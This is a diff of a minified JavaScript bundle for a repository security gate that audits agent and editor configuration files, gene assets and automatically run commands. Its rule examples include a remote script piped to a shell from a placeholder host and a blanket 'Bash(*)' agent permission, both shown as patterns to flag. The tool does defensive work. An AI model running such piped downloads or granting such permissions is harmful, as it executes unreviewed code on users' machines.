+const k=/^https?:/.test(d)?"connects to":"runs";return`${S===""?"For":`${S==="new"?"New":"Changed"} in this change: for`}\
+ ${b}, ${v} ${k} \`${d}\``}const m={widens:"it gives more trust",narrows:"it gives less trust",changes:"it gives other t\
+rust"},a="Read what it runs before anyone opens this branch, or remove it.",i={[n]:c("node a.js")},p={base:{"a.js":`work\
 ();
-`},head:{...u,"a.js":`work();
-`}},d={base:u,head:{...u,"b.js":""}},S=t.agentFileRules=(0,e().rules)("change","danger",{"agent-runs-danger":(0,e().warning)(
+`},head:{...i,"a.js":`work();
+`}},h={base:i,head:{...i,"b.js":""}},_=t.agentFileRules=(0,e().rules)("change","danger",{"agent-runs-danger":(0,e().warning)(
 {failsByLevel:!0,...o,harm:"danger",title:"Dangerous command runs automatically",why:"Agents and editors run the command\
  by themselves. A download that a shell or an interpreter runs is code that nobody reviewed, and it can differ from mach\
 ine to machine and from day to day; a task with `reveal: never` keeps its terminal closed, which is rarely useful except\
  to hide what runs. The shell script or the script of package.json behind a command is read in the same way, and named w\
-ith its line.",wrong:a("curl -s https://setup.example/x | sh"),right:d,configure:g,message:k=>`${h(k)}, which ${k.danger}\
+ith its line.",wrong:r("curl -s https://setup.example/x | sh"),right:h,configure:g,message:v=>`${l(v)}, which ${v.danger}\
 .`,remedy:"Remove it. A person reviews what a download contains, and commits what the project needs."}),"agent-file-cont\
 ent":(0,e().warning)({failsByLevel:!0,...o,harm:"danger",title:"Secret or hidden text in a file of agents or editors",why:"\
 Everybody who can read the repository can use a secret, and it stays in the history of git. The value is not shown. Char\
 acters that a reader does not see are read by an agent: bidirectional controls, tags, zero width, private use and select\
-ors of variants can hold whole sentences. Joiners in emoji, and in scripts that need them, are no finding.",wrong:w("8f1\
-4e45fceea167a5a36dedd4bea2543"),right:{...w("$SEARCH_TOKEN"),also:{"agent-command-changed":"The server is new."}},configure:g,
-message:({path:k,kind:v,characters:b=[],more:_})=>v==="hidden"?`\`${k}\` contains characters that a reader does not see a\
-nd an agent reads (${b.join(", ")}${_?" and more":""}).`:`\`${k}\` contains a secret in plain text (${v}).`,remedy:({kind:k})=>k===
+ors of variants can hold whole sentences. Joiners in emoji, and in scripts that need them, are no finding.",wrong:y("8f1\
+4e45fceea167a5a36dedd4bea2543"),right:{...y("$SEARCH_TOKEN"),also:{"agent-command-changed":"The server is new."}},configure:g,
+message:({path:v,kind:b,characters:d=[],more:S})=>b==="hidden"?`\`${v}\` contains characters that a reader does not see a\
+nd an agent reads (${d.join(", ")}${S?" and more":""}).`:`\`${v}\` contains a secret in plain text (${b}).`,remedy:({kind:v})=>v===
 "hidden"?"Remove the characters.":"Revoke the secret, and use an environment variable instead."}),"agent-script-unreadab\
 le":(0,e().warning)({listed:!0,failsByLevel:!0,...o,harm:"broken",counted:["why"],title:"Change runs an unreadable scrip\
 t automatically",why:"Reviewers do not read a script of more than 200 kB, or with a line of more than 2,000 characters. \
-Attacks hide in such files behind a hook of one line.",wrong:a("node setup.js",{"setup.js":"<3,000 letters>"}),right:{...a(
+Attacks hide in such files behind a hook of one line.",wrong:r("node setup.js",{"setup.js":"<3,000 letters>"}),right:{...r(
 "node setup.js",{"setup.js":`work();
 `}),also:{"agent-command-changed":"The hook is new."}},configure:g,message:"For {event}, {tool} runs `{script}`, which n\
 obody can read: it {why}.",remedy:"Ask for its source and how it was made, or remove it."}),"agent-command-changed":(0,e().
@@ -1306,16 +1321,16 @@ warning)({listed:!0,...o,counted:["means"],title:"Change edits what runs automat
  files of agents and editors run by themselves on the machine of everybody who opens the branch. Tools ask once, for a f\
 older or a name; what the name starts can change later. The gate shows each command that is new or changed and what it r\
 uns, as far as its text says that. It runs none. A change of the script behind a command that stays is a notice: no tool\
- asks again for it.",wrong:a("npx some-tool"),right:d,configure:g,message:k=>{const v=k.means.length>0?`: ${k.means.join(
-"; ")}`:"";return`${h(k)}${v}.`},remedy:r}),"agent-setting-changed":(0,e().warning)({listed:!0,...o,title:"Change edits \
+ asks again for it.",wrong:r("npx some-tool"),right:h,configure:g,message:v=>{const b=v.means.length>0?`: ${v.means.join(
+"; ")}`:"";return`${l(v)}${b}.`},remedy:a}),"agent-setting-changed":(0,e().warning)({listed:!0,...o,title:"Change edits \
 what agents are allowed to do",why:"A permission rule, a sandbox, a trust switch, a base URL or a variable that makes pr\
 ograms load code decides what an agent may do on the machine of everybody who opens the branch, and where its requests g\
 o. A hook that runs before something is allowed protects only while it is there. A change that gives more trust, and a k\
 ey whose meaning is not known, is a warning; one that gives less trust is a notice. Values of keys that are not known ar\
 e not shown.",wrong:{head:{[n]:'{ "permissions": { "allow": ["Bash(*)"] } }'}},right:{head:{[n]:'{ "model": "opus" }'}},
-configure:g,message:({tool:k,event:v,command:b,state:_,change:y,isMember:m})=>{const[p,l]=[`\`${v}\` of ${k}`,`\`${b}\``];
-if(_==="")return`${p} is ${l}: ${c[y]}.`;const E=_==="removed",[x,j]=E?["removes","from"]:["adds","to"];return`This chan\
-ge ${m?`${x} ${l} ${j} ${p}`:E||b===""?`${E?"removes":"changes"} ${p}`:`sets ${p} to ${l}`}: ${c[y]??"its meaning is not\
+configure:g,message:({tool:v,event:b,command:d,state:S,change:k,isMember:w})=>{const[f,u]=[`\`${b}\` of ${v}`,`\`${d}\``];
+if(S==="")return`${f} is ${u}: ${m[k]}.`;const E=S==="removed",[x,j]=E?["removes","from"]:["adds","to"];return`This chan\
+ge ${w?`${x} ${u} ${j} ${f}`:E||d===""?`${E?"removes":"changes"} ${f}`:`sets ${f} to ${u}`}: ${m[k]??"its meaning is not\
  known"}.`},remedy:"Read what it allows before anyone opens this branch, or restore it."}),"agent-file-unread":(0,e().warning)(
 {failsByLevel:!0,...o,harm:"broken",title:"File of agents or editors is not read",why:"The commands of a file can only b\
 e shown if its syntax is right (JSON can have comments and trailing commas) and if it is a file of people, not of 1,000 \
@@ -1327,27 +1342,27 @@ gent_files.exclude` in the policy."}),"agent-files-unapproved":(0,e().warning)({
 uman",counted:["events","approval"],title:"Commands that a change runs automatically need approval",why:"With `agent_fil\
 es.level: approve`, a person decides about each change of what agents and editors run by themselves. The approval is giv\
 en as for a change that weakens the gate, by as many people as `approvals.gate` says, and is about the files of the head\
-: `approvals.unaffected_by` covers neither these files nor the scripts behind them.",wrong:{...f,policy:`agent_files:
+: `approvals.unaffected_by` covers neither these files nor the scripts behind them.",wrong:{...p,policy:`agent_files:
   level: approve
-`},right:{...f,also:{"agent-command-changed":"The hook is new."}},configure:g,message:({path:k,events:v})=>`\`${k}\` chan\
-ges the commands that run automatically (${v.join(", ")}).`,remedy:({path:k,approval:v})=>v==="given"?"No action is requ\
-ired: the change is approved.":v?`Restore \`${k}\` unless this is intended.`:`Restore \`${k}\`, or ask a person with writ\
+`},right:{...p,also:{"agent-command-changed":"The hook is new."}},configure:g,message:({path:v,events:b})=>`\`${v}\` chan\
+ges the commands that run automatically (${b.join(", ")}).`,remedy:({path:v,approval:b})=>b==="given"?"No action is requ\
+ired: the change is approved.":b?`Restore \`${v}\` unless this is intended.`:`Restore \`${v}\`, or ask a person with writ\
 e access to approve the change.`})})},28672:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.assetFileRules=
-void 0;function e(){const h=s(67298);return e=function(){return h},h}function n(){const h=s(43767);return n=function(){return h},
-h}const i=`assets:
-  include: ['**/assets/gep/genes*.json', 'lib/*-genes.json']`,a=`assets:
+void 0;function e(){const l=s(67298);return e=function(){return l},l}function n(){const l=s(43767);return n=function(){return l},
+l}const c=`assets:
+  include: ['**/assets/gep/genes*.json', 'lib/*-genes.json']`,r=`assets:
   max_file_bytes: 800
-`;function w(...h){const c={"assets/gep/genes_b.json":h.map(r=>(0,e().gene)({id:r}))};return{base:c,head:{...(0,e().genes)(
-{id:"gene_a"}).head,...c}}}const g={base:(0,e().genes)({id:"gene_a"},{id:"gene_b"},{id:"gene_c"}).head,...(0,e().genes)(
+`;function y(...l){const m={"assets/gep/genes_b.json":l.map(a=>(0,e().gene)({id:a}))};return{base:m,head:{...(0,e().genes)(
+{id:"gene_a"}).head,...m}}}const g={base:(0,e().genes)({id:"gene_a"},{id:"gene_b"},{id:"gene_c"}).head,...(0,e().genes)(
 {id:"gene_a"})},o=t.assetFileRules=(0,n().rules)("asset","broken",{"file-not-regular":(0,n().rule)({content:"ambiguous",
 title:"Asset file is a symlink or a submodule",why:"A symlink can show one file to the audit and another to the engine, \
 and a submodule shows no file at all. An asset file must be a regular file in the commit.",wrong:{head:{[e().GENES]:{symlink:"\
 ../../shared/genes.json"},"shared/genes.json":[(0,e().gene)()]}},right:(0,e().genes)({}),message:"The asset file is not \
 a regular file: {detail}.",remedy:"Replace the symlink or submodule with the file itself."}),"file-too-large":(0,n().rule)(
 {content:"unread",title:"Asset file is more than the gate can audit",why:"A file that is not read is not audited, so a f\
-ile above the size limit is an error.",wrong:{...(0,e().genes)({id:"gene_a"},{id:"gene_b"},{id:"gene_c"}),policy:a},right:{
+ile above the size limit is an error.",wrong:{...(0,e().genes)({id:"gene_a"},{id:"gene_b"},{id:"gene_c"}),policy:r},right:{
 head:{"assets/gep/genes_a.json":[(0,e().gene)({id:"gene_a"}),(0,e().gene)({id:"gene_b"})],"assets/gep/genes_b.json":[(0,e().
-gene)({id:"gene_c"})]},policy:a},configure:`assets:
+gene)({id:"gene_c"})]},policy:r},configure:`assets:
   max_file_bytes: 67108864`,message:"The asset file is more than the gate can audit: {detail}.",remedy:"Split the file, \
 fix the reported problems, or increase `assets.max_file_bytes` in the policy on the base branch."}),"file-not-utf8":(0,n().
 rule)({content:"unread",title:"Asset file is not valid UTF-8",why:"JSON is encoded in UTF-8. Each reader replaces invali\
@@ -1390,47 +1405,47 @@ gine reads."}),"not-judged":(0,n().rule)({content:"unread",forbidsRunning:"gene"
 of the change could not be judged",why:"A file that cannot be read, a check that fails unexpectedly, or a command withou\
 t a result says nothing about the change. The gate reports it as an error of that file, asset, or command, and judges ev\
 erything else. The verdict is `error`, never `pass`. In the example, the base version of the file is too large, so the l\
-imits of its genes are unknown.",wrong:{...g,policy:a},right:{...g,policy:`assets:
+imits of its genes are unknown.",wrong:{...g,policy:r},right:{...g,policy:`assets:
   max_file_bytes: 67108864
 `},message:"The gate could not judge {detail}.",remedy:"Fix the reported cause. If no file of the repository causes it, \
 run the gate again, and report a repeated error as a bug in gene-gate."}),"asset-file-unread":(0,n().warning)({harm:"bro\
 ken",title:"Asset file that the change does not touch was not read",why:"The assets of a change refer to other assets. I\
 f one of the other asset files is not read, for example because it is too large, a reference to its content cannot be ch\
-ecked.",wrong:{...w("gene_b","gene_c","gene_d"),policy:a},right:{...w("gene_b"),policy:a},configure:`assets:
+ecked.",wrong:{...y("gene_b","gene_c","gene_d"),policy:r},right:{...y("gene_b"),policy:r},configure:`assets:
   max_file_bytes: 67108864`,message:"The asset file was not read completely: {detail}.",remedy:"Split the file, or incre\
 ase `assets.max_file_bytes` in the policy on the base branch."}),"outside-globs":(0,n().warning)({ignorable:!0,title:"Ge\
 ne where the gate does not audit genes",why:"Only files that match `assets.include` in the policy are audited. Nobody ju\
 dges the limits of a gene in another file. Its commands are judged for what is dangerous, because another engine could r\
 ead them: that is an error if the change brings it. In a fixture of a security tool, the policy of the base branch can i\
 gnore it with a reason. The files of a submodule that a change adds cannot be read at all.",wrong:{head:{"lib/extra-gene\
-s.json":[(0,e().gene)()]}},right:{head:{"lib/extra-genes.json":[(0,e().gene)()]},policy:`${i}
-`},configure:i,message:"The gate audits no genes here: {detail}.",remedy:"If an engine reads this file, add it to `asset\
+s.json":[(0,e().gene)()]}},right:{head:{"lib/extra-genes.json":[(0,e().gene)()]},policy:`${c}
+`},configure:c,message:"The gate audits no genes here: {detail}.",remedy:"If an engine reads this file, add it to `asset\
 s.include` in the policy. For a submodule, run the gate in its own repository."})})},31453:function(A,t,s){Object.defineProperty(
-t,"__esModule",{value:!0}),t.assetRules=void 0;function e(){const u=s(4190);return e=function(){return u},u}function n(){
-const u=s(67298);return n=function(){return u},u}function i(){const u=s(36773);return i=function(){return u},u}function a(){
-const u=s(43767);return a=function(){return u},u}function w({type:u,id:f,others:d=0},S){if(d===0)return`The ${u} \`${f}\`\
- has no \`${S}\`.`;const k=d===1?"another asset":`${d} other assets`;return`The ${u} \`${f}\` and ${k} in its file have \
-no \`${S}\`.`}function g(u){return(0,n().genes)({constraints:{max_files:u,forbidden_paths:[".git"]}})}function o(u){return{
-base:(0,n().genes)({id:"gene_retry"}).head,...(0,n().genes)({id:"gene_retry"},{id:u})}}function h(u){const f={"index.js":`\
+t,"__esModule",{value:!0}),t.assetRules=void 0;function e(){const i=s(4190);return e=function(){return i},i}function n(){
+const i=s(67298);return n=function(){return i},i}function c(){const i=s(36773);return c=function(){return i},i}function r(){
+const i=s(43767);return r=function(){return i},i}function y({type:i,id:p,others:h=0},_){if(h===0)return`The ${i} \`${p}\`\
+ has no \`${_}\`.`;const v=h===1?"another asset":`${h} other assets`;return`The ${i} \`${p}\` and ${v} in its file have \
+no \`${_}\`.`}function g(i){return(0,n().genes)({constraints:{max_files:i,forbidden_paths:[".git"]}})}function o(i){return{
+base:(0,n().genes)({id:"gene_retry"}).head,...(0,n().genes)({id:"gene_retry"},{id:i})}}function l(i){const p={"index.js":`\
 work();
-`};return{base:f,head:{...f,[n().GENES]:u}}}const c=", which `gene-gate fix --identity --write` adds in the repository o\
-f its author",r=t.assetRules=(0,a().rules)("asset","bookkeeping",{"validation-missing":(0,a().rule)({harm:"broken",group:"\
+`};return{base:p,head:{...p,[n().GENES]:i}}}const m=", which `gene-gate fix --identity --write` adds in the repository o\
+f its author",a=t.assetRules=(0,r().rules)("asset","bookkeeping",{"validation-missing":(0,r().rule)({harm:"broken",group:"\
 content",ignorable:!0,title:"No validation command of a gene can fail",why:"A gene without a validation command provides\
  no evidence that it works, and neither does one whose commands pass for every change, such as `node --version`. The pro\
 tocol requires at least one command, and a report without commands is not a success.",wrong:(0,n().genes)({validation:["\
 node --version"]}),right:{...(0,n().genes)({validation:["node --version","node --test"]}),also:{"only-prints":"The other\
  command is enough."}},message:"The gene `{gene}` has no validation command{that}.",remedy:"Add a command that fails whe\
-n the gene breaks something."}),"validation-malformed":(0,a().rule)({forbidsRunning:"gene",harm:"broken",title:"Validati\
+n the gene breaks something."}),"validation-malformed":(0,r().rule)({forbidsRunning:"gene",harm:"broken",title:"Validati\
 on of a gene cannot be read as a list of strings",why:"Readers handle other values differently: some run a single string\
 , some split it, and some skip entries that are not strings. After an error in its JSON, nothing says what else belongs \
 to a gene: its limits and commands may be there and not be read. The gate runs no command of this gene, and does not jud\
 ge what a gene with an error leaves out.",wrong:(0,n().genes)({validation:"npm test"}),right:(0,n().genes)({validation:[
 "npm test"]}),message:"The gene `{gene}` {fault}.",remedy:"Write `validation` as a list of strings, with one command in \
-each string, in valid JSON."}),"validation-redundant":(0,a().warning)({counted:["field"],group:"content",title:"Entry of\
+each string, in valid JSON."}),"validation-redundant":(0,r().warning)({counted:["field"],group:"content",title:"Entry of\
  a validation list adds nothing",why:"Identical commands run once. The second one proves nothing, and often another comm\
 and was intended. An entry that is blank is skipped, as by the reference engine, and is a notice.",wrong:(0,n().genes)({
 validation:["npm test","npm test"]}),right:(0,n().genes)({validation:["npm test","npm run check"]}),message:"The entry `\
-{field}` of the gene `{gene}` adds nothing: it {fault}.",remedy:"Remove the entry."}),"constraints-malformed":(0,a().rule)(
+{field}` of the gene `{gene}` adds nothing: it {fault}.",remedy:"Remove the entry."}),"constraints-malformed":(0,r().rule)(
 {counted:["fault","fix"],harm:"broken",group:"schema",ignorable:!0,title:"Constraint of a gene is missing or does not li\
 mit what it says",why:"A limit that is ignored because it is malformed is not a limit. `max_files` is an integer greater\
  than 0. `forbidden_paths` is a list of paths below the root of the repository, written with `/`; each includes everythi\
@@ -1439,34 +1454,34 @@ den are forbidden; a pattern such as `src/**` is read as a path and forbids noth
 he policy (60 files) has no effect.",wrong:(0,n().genes)({constraints:{max_files:"5",forbidden_paths:"src/core"}}),right:(0,n().
 genes)({constraints:{max_files:5,forbidden_paths:["src/core"]}}),configure:`blast_radius:
   hard_cap_files: 60`,message:"The field `{field}` of the gene `{gene}` {fault}.",remedy:"{fix}."}),"constraints-loosene\
-d":(0,a().warning)({counted:["loosened"],instance:["loosened"],title:"Change loosens the constraints of a gene",why:"A c\
+d":(0,r().warning)({counted:["loosened"],instance:["loosened"],title:"Change loosens the constraints of a gene",why:"A c\
 hange cannot loosen the constraints that apply to it: the stricter of the old and the new constraints apply. The looser \
 constraints apply from the next change on, so reviewers need to know about them.",wrong:{base:g(5).head,...g(50)},right:{
-base:g(5).head,...g(4)},message:({gene:u,loosened:f})=>`The change loosens the constraints of the gene \`${u}\` (${f.join(
+base:g(5).head,...g(4)},message:({gene:i,loosened:p})=>`The change loosens the constraints of the gene \`${i}\` (${p.join(
 "; ")}); the stricter ones apply to this change.`,remedy:"Keep the constraints, or say in the pull request why they must\
- be looser; they apply from the next change on."}),"look-alike-id":(0,a().rule)({harm:"danger",title:"Id of a new asset \
+ be looser; they apply from the next change on."}),"look-alike-id":(0,r().rule)({harm:"danger",title:"Id of a new asset \
 looks like the id of another asset",why:"Two ids that differ only in case, in invisible characters, in characters that l\
 ook alike, or in their Unicode form are different assets with different limits, but people and file systems take them fo\
 r one. With a look-alike id, a gene could be copied with looser limits.",wrong:o("Gene_Retry"),right:o("gene_retry_timeo\
 ut"),message:"The id of the new {type} `{id}` looks like that of the {type} `{other}`.",remedy:"Choose an id that differ\
-s in more than its spelling."}),"schema-version-missing":(0,a().notice)({instance:["type","fixable"],group:"schema",title:"\
+s in more than its spelling."}),"schema-version-missing":(0,r().notice)({instance:["type","fixable"],group:"schema",title:"\
 Asset has no schema version",why:"The protocol requires `schema_version`. A repository can keep an asset without it, so \
 this is a notice, one for each file. In a promotion it is an error.",wrong:(0,n().genes)({schema_version:void 0}),right:(0,n().
-genes)({schema_version:"1.13.0"}),message:u=>w(u,"schema_version"),remedy:({fixable:u,foreign:f})=>f?`Ask the author for\
- the asset with a \`schema_version\`${c}.`:`${u?"Run `gene-gate fix --identity --write`, or add":"Add"} \`schema_version\`\
-, a string of three numbers such as \`1.13.0\`.`}),"schema-field":(0,a().warning)({cause:({type:u})=>`schema of ${u}`,counted:[
+genes)({schema_version:"1.13.0"}),message:i=>y(i,"schema_version"),remedy:({fixable:i,foreign:p})=>p?`Ask the author for\
+ the asset with a \`schema_version\`${m}.`:`${i?"Run `gene-gate fix --identity --write`, or add":"Add"} \`schema_version\`\
+, a string of three numbers such as \`1.13.0\`.`}),"schema-field":(0,r().warning)({cause:({type:i})=>`schema of ${i}`,counted:[
 "fault","fix"],group:"schema",title:"Field of an asset does not match the schema of the protocol",why:"Other agents and \
 hubs validate an asset against the schema. A field that is missing, unknown or of another form is rejected there, or rea\
 d as something else. The overview also requires `success_streak` and `env_fingerprint` of every Capsule. In a promotion \
 it is an error.",wrong:(0,n().genes)({category:void 0}),right:(0,n().genes)({category:"repair"}),message:"The field `{fi\
-eld}` of the {type} `{id}`{where} {fault}.",remedy:"{fix}."}),"content-hash-missing":(0,a().notice)({instance:["expected",
+eld}` of the {type} `{id}`{where} {fault}.",remedy:"{fix}."}),"content-hash-missing":(0,r().notice)({instance:["expected",
 "type","fixable"],group:"hashes",title:"Asset has no asset_id",why:"`asset_id` is the hash of the content of an asset. I\
 t shows others that they have the same asset. A repository can keep an asset without it, so this is a notice, one for ea\
 ch file. In a promotion it is an error.",wrong:(0,n().genes)({asset_id:void 0}),right:(0,n().genes)({asset_id:n().RIGHT_HASH.
-own}),message:u=>w(u,"asset_id"),remedy:({expected:u,fixable:f,foreign:d})=>{if(d)return`Ask the author for the asset wi\
-th its \`asset_id\`${c}.`;const S=f?"Run `gene-gate fix --identity --write`, or add":"Add",k=u===void 0?"an `asset_id` t\
-o each":`\`"asset_id": "${u}"\``;return`${S} ${k}, the hash of ${u===void 0?"its":"the current"} content.`}}),"content-h\
-ash-mismatch":(0,a().rule)({otherAsset:!0,instance:["expected","type","fixable","form","seed"],group:"hashes",ignorable:!0,
+own}),message:i=>y(i,"asset_id"),remedy:({expected:i,fixable:p,foreign:h})=>{if(h)return`Ask the author for the asset wi\
+th its \`asset_id\`${m}.`;const _=p?"Run `gene-gate fix --identity --write`, or add":"Add",v=i===void 0?"an `asset_id` t\
+o each":`\`"asset_id": "${i}"\``;return`${_} ${v}, the hash of ${i===void 0?"its":"the current"} content.`}}),"content-h\
+ash-mismatch":(0,r().rule)({otherAsset:!0,instance:["expected","type","fixable","form","seed"],group:"hashes",ignorable:!0,
 title:"Asset content does not match its asset_id",why:"`asset_id` is the hash of the content in canonical JSON, without \
 `asset_id` itself. An asset that was edited but not hashed again claims to be another asset, and every hub rejects it. F\
 or a Capsule, the form of the hubs is also accepted, which omits `outcome.notes` and `outcome.details`; and for all asse\
@@ -1474,27 +1489,27 @@ ts the form of the reference engine, which hashes some fields without a value as
 gene has the hash with which the engine created it is a notice: the engine adds what it learns to the gene. So is the ha\
 sh of a seed that the engine ships with it. If a change leaves all else of a gene as it was, a hash that does not match \
 is a warning. The message says if only `sha256:` is missing or written in capitals.",wrong:(0,n().genes)({summary:"Edite\
-d.",asset_id:n().WRONG_HASH}),right:(0,n().genes)({summary:"Edited.",asset_id:n().RIGHT_HASH.own}),message:({type:u,id:f,
-form:d,seed:S})=>`The \`asset_id\` of the ${u} \`${f}\` does not match its content${d!==void 0?`, but the content as has\
-hed by ${e().HASH_FORMS[d]??d}`:S===void 0?"":`; release ${S} of the reference engine ships it so`}.`,remedy:({expected:u,
-fixable:f,foreign:d,form:S,seed:k})=>(S==="created"||k!==void 0)&&!d?`Leave it; before others get the asset, set \`asset_\
-id\` to \`${u}\`, as \`gene-gate fix --identity --write\` does.`:d?S===void 0?"Ask the author for the original asset; it\
- was changed after it was hashed, or hashed in another way.":`Ask the author to hash it by the current protocol: \`${u}\`\
-.`:`${f?"Run `gene-gate fix --write`, or set":"Set"} \`asset_id\` to \`${u}\`, the hash of the current content.`}),"gene\
--removed":(0,a().notice)({title:"Change removes a gene",why:"The commands of a removed gene no longer run. Its limits st\
+d.",asset_id:n().WRONG_HASH}),right:(0,n().genes)({summary:"Edited.",asset_id:n().RIGHT_HASH.own}),message:({type:i,id:p,
+form:h,seed:_})=>`The \`asset_id\` of the ${i} \`${p}\` does not match its content${h!==void 0?`, but the content as has\
+hed by ${e().HASH_FORMS[h]??h}`:_===void 0?"":`; release ${_} of the reference engine ships it so`}.`,remedy:({expected:i,
+fixable:p,foreign:h,form:_,seed:v})=>(_==="created"||v!==void 0)&&!h?`Leave it; before others get the asset, set \`asset_\
+id\` to \`${i}\`, as \`gene-gate fix --identity --write\` does.`:h?_===void 0?"Ask the author for the original asset; it\
+ was changed after it was hashed, or hashed in another way.":`Ask the author to hash it by the current protocol: \`${i}\`\
+.`:`${p?"Run `gene-gate fix --write`, or set":"Set"} \`asset_id\` to \`${i}\`, the hash of the current content.`}),"gene\
+-removed":(0,r().notice)({title:"Change removes a gene",why:"The commands of a removed gene no longer run. Its limits st\
 ill apply to the change that removes it, because a gene could be replaced by one with another id and looser limits; they\
  no longer apply to later changes.",wrong:{base:(0,n().genes)({id:"gene_a"},{id:"gene_b"}).head,...(0,n().genes)({id:"ge\
 ne_b"})},right:{base:(0,n().genes)({id:"gene_a"}).head,...(0,n().genes)({id:"gene_a"},{id:"gene_b"})},message:"The chang\
-e removes the gene `{gene}`.",remedy:"Confirm that the removal is intended."}),"engine-seeds":(0,a().notice)({title:"Ass\
+e removes the gene `{gene}`.",remedy:"Confirm that the removal is intended."}),"engine-seeds":(0,r().notice)({title:"Ass\
 ets are unchanged seeds of the engine",why:"The reference engine ships Genes and Capsules, and most stores begin with a \
 copy of them. What is wrong with a seed was not written in this repository, so what is found about unchanged seeds is on\
 e notice, except errors. In a store without its engine, the scripts that seeds name do not exist: their commands do not \
 run, and fail nothing but what is dangerous; one warning says so. A seed that the change edits, that it applies, or of w\
-hose commands it adds or edits a file counts as every other asset.",wrong:h(n().SEED_STORE),right:h(n().SEED_STORE.replace(
-'"optimize"','"repair"')),message:({ids:u,count:f,oldest:d,newest:S,idle:k})=>`${f===1?"1 asset is an unchanged seed":`${f}\
- assets are unchanged seeds`} of the engine ${d}${S===d?"":` to ${S}`}: ${(0,i().inCode)(u.slice(0,5))}${u.length>5?` an\
-d ${u.length-5} more`:""}.${k>0?" The engine's scripts are not in this repository; they can't be validated here.":""}`,remedy:"\
-Keep the seeds that this repository uses, and remove the others."}),"seed-activated-blocked":(0,a().warning)({harm:"brok\
+hose commands it adds or edits a file counts as every other asset.",wrong:l(n().SEED_STORE),right:l(n().SEED_STORE.replace(
+'"optimize"','"repair"')),message:({ids:i,count:p,oldest:h,newest:_,idle:v})=>`${p===1?"1 asset is an unchanged seed":`${p}\
+ assets are unchanged seeds`} of the engine ${h}${_===h?"":` to ${_}`}: ${(0,c().inCode)(i.slice(0,5))}${i.length>5?` an\
+d ${i.length-5} more`:""}.${v>0?" The engine's scripts are not in this repository; they can't be validated here.":""}`,remedy:"\
+Keep the seeds that this repository uses, and remove the others."}),"seed-activated-blocked":(0,r().warning)({harm:"brok\
 en",title:"Gene that may not run moves into the store",why:"A gene in a seed file (`*.seed.json`) waits to be copied; in\
  the store, engines use it. A gene that is only moved is not changed, so its commands are not judged again, but from now\
  on they are what validates. The gate runs none of the commands of a gene with one that it blocks.",wrong:{base:{"assets\
@@ -1502,179 +1517,179 @@ en",title:"Gene that may not run moves into the store",why:"A gene in a seed fil
 url example.com"]})]}},right:{base:{"assets/gep/genes.seed.json":[(0,n().gene)()]},head:{[n().GENES]:[(0,n().gene)()]}},
 message:"The gene `{gene}` moves from a seed file into the store, but its command `{command}` is blocked.",remedy:"Corre\
 ct the validation commands of the gene, or leave it in the seed file."})})},13580:function(A,t,s){Object.defineProperty(
-t,"__esModule",{value:!0}),t.allRules=p,t.checkRules=m,t.ruleOf=E;function e(){const x=s(18118);return e=function(){return x},
-x}function n(){const x=s(31453);return n=function(){return x},x}function i(){const x=s(28672);return i=function(){return x},
-x}function a(){const x=s(8909);return a=function(){return x},x}function w(){const x=s(6335);return w=function(){return x},
+t,"__esModule",{value:!0}),t.allRules=f,t.checkRules=w,t.ruleOf=E;function e(){const x=s(18118);return e=function(){return x},
+x}function n(){const x=s(31453);return n=function(){return x},x}function c(){const x=s(28672);return c=function(){return x},
+x}function r(){const x=s(8909);return r=function(){return x},x}function y(){const x=s(6335);return y=function(){return x},
 x}function g(){const x=s(96208);return g=function(){return x},x}function o(){const x=s(40036);return o=function(){return x},
-x}function h(){const x=s(72443);return h=function(){return x},x}function c(){const x=s(46711);return c=function(){return x},
-x}function r(){const x=s(9969);return r=function(){return x},x}function u(){const x=s(17188);return u=function(){return x},
-x}function f(){const x=s(65316);return f=function(){return x},x}function d(){const x=s(6692);return d=function(){return x},
-x}function S(){const x=s(76186);return S=function(){return x},x}function k(){const x=s(48516);return k=function(){return x},
-x}function v(){const x=s(8371);return v=function(){return x},x}function b(){const x=s(42148);return b=function(){return x},
-x}const _=[()=>S().syntaxRules,()=>r().programRules,()=>h().invocationRules,()=>k().targetRules,()=>v().validatorRules,()=>w().
-curatedRules,()=>c().policyRules,()=>b().workspaceRules,()=>i().assetFileRules,()=>n().assetRules,()=>o().evidenceRules,
-()=>g().eligibilityRules,()=>a().changeRules,()=>d().storeRules,()=>e().agentFileRules,()=>f().runRules],y=[..._,()=>u().
-promotionRules];function m(){return _.flatMap(x=>Object.values(x()))}function p(){return y.flatMap(x=>Object.values(x()))}
-const l=new Map;function E(x){const j=l.get(x);if(j!==void 0)return j;const O=y.find($=>Object.hasOwn($(),x))?.()?.[x];return O!==
-void 0&&l.set(x,O),O}},8909:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.changeRules=void 0;function e(){
-const l=s(27576);return e=function(){return l},l}function n(){const l=s(67298);return n=function(){return l},l}function i(){
-const l=s(36773);return i=function(){return l},l}function a(){const l=s(43767);return a=function(){return l},l}const w=`\
+x}function l(){const x=s(72443);return l=function(){return x},x}function m(){const x=s(46711);return m=function(){return x},
+x}function a(){const x=s(9969);return a=function(){return x},x}function i(){const x=s(17188);return i=function(){return x},
+x}function p(){const x=s(65316);return p=function(){return x},x}function h(){const x=s(6692);return h=function(){return x},
+x}function _(){const x=s(76186);return _=function(){return x},x}function v(){const x=s(48516);return v=function(){return x},
+x}function b(){const x=s(8371);return b=function(){return x},x}function d(){const x=s(42148);return d=function(){return x},
+x}const S=[()=>_().syntaxRules,()=>a().programRules,()=>l().invocationRules,()=>v().targetRules,()=>b().validatorRules,()=>y().
+curatedRules,()=>m().policyRules,()=>d().workspaceRules,()=>c().assetFileRules,()=>n().assetRules,()=>o().evidenceRules,
+()=>g().eligibilityRules,()=>r().changeRules,()=>h().storeRules,()=>e().agentFileRules,()=>p().runRules],k=[...S,()=>i().
+promotionRules];function w(){return S.flatMap(x=>Object.values(x()))}function f(){return k.flatMap(x=>Object.values(x()))}
+const u=new Map;function E(x){const j=u.get(x);if(j!==void 0)return j;const T=k.find($=>Object.hasOwn($(),x))?.()?.[x];return T!==
+void 0&&u.set(x,T),T}},8909:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.changeRules=void 0;function e(){
+const u=s(27576);return e=function(){return u},u}function n(){const u=s(67298);return n=function(){return u},u}function c(){
+const u=s(36773);return c=function(){return u},u}function r(){const u=s(43767);return r=function(){return u},u}const y=`\
 blast_radius:
   protected_paths: ['AGENTS.md', 'config/prod/**']
 `,g={"AGENTS.md":`Run the tests.
